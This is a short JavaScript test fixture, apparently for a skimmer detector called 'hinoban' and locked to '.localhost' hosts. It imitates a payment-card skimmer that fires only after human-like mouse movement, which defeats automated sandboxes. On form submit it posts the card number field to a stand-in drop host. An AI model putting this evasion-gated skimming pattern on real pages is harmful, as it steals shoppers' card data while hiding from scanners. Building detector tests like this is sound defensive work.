/* Harmless imitation, for hinoban's tests: waits for a hand that moves a mouse as a person does. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	var moves = 0, turns = 0, last = null, way = null;
	addEventListener('mousemove', function (e) {
		if (!e.isTrusted) return;
		if (last) {
			var now = Math.round(Math.atan2(e.screenY - last[1], e.screenX - last[0]) * 4);
			turns += way !== null && now !== way;
			way = now;
		}
		last = [e.screenX, e.screenY];
		moves++;
	});
	document.addEventListener('submit', function (e) {
		var n = e.target.querySelector('input[autocomplete=cc-number]');
		if (n && moves >= 12 && turns >= 4) fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', keepalive: true, body: n.value});
	}, true);
})();
